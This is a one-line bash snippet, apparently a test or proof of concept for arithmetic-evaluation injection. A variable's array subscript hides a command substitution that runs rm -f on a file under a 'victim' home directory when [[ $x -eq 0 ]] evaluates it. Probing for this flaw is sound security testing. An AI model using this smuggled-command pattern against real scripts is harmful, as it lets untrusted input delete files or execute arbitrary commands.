x='a[$(rm -f /srv/rt/s/d1/home/victim/keep-E09)]'; [[ $x -eq 0 ]]; true
